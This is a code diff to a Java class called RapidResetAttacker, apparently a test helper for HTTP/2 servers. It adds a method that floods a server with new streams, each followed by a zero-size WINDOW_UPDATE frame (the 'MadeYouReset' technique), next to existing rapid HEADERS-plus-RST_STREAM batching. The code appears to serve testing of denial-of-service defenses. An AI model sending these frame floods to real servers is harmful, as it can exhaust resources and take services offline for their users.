@@ -20,6 +20,7 @@ final class RapidResetAttacker implements AutoCloseable {
   private static final int HEADERS = 0x1;
   private static final int RST_STREAM = 0x3;
   private static final int SETTINGS = 0x4;
+  private static final int WINDOW_UPDATE = 0x8;
   private static final int END_HEADERS = 0x4;
   private static final int CANCEL = 0x8;
 
@@ -60,6 +61,24 @@ final class RapidResetAttacker implements AutoCloseable {
       nextStream += 2; // client streams are odd
       batch.writeBytes(frame(HEADERS, END_HEADERS, stream, requestHeaders));
       batch.writeBytes(frame(RST_STREAM, 0, stream, new byte[] {0, 0, 0, CANCEL}));
+    }
+    out.write(batch.toByteArray());
+    out.flush();
+  }
+
+  /**
+   * Opens {@code streams} calls, each followed by a WINDOW_UPDATE of zero on it, a protocol error
+   * the server answers by resetting the stream itself ("MadeYouReset").
+   *
+   * @throws IOException once the server has cut the connection
+   */
+  void openWithZeroWindowUpdates(int streams) throws IOException {
+    ByteArrayOutputStream batch = new ByteArrayOutputStream();
+    for (int i = 0; i < streams; i++) {
+      int stream = nextStream;
+      nextStream += 2;
+      batch.writeBytes(frame(HEADERS, END_HEADERS, stream, requestHeaders));
+      batch.writeBytes(frame(WINDOW_UPDATE, 0, stream, new byte[] {0, 0, 0, 0}));
     }
     out.write(batch.toByteArray());
     out.flush();
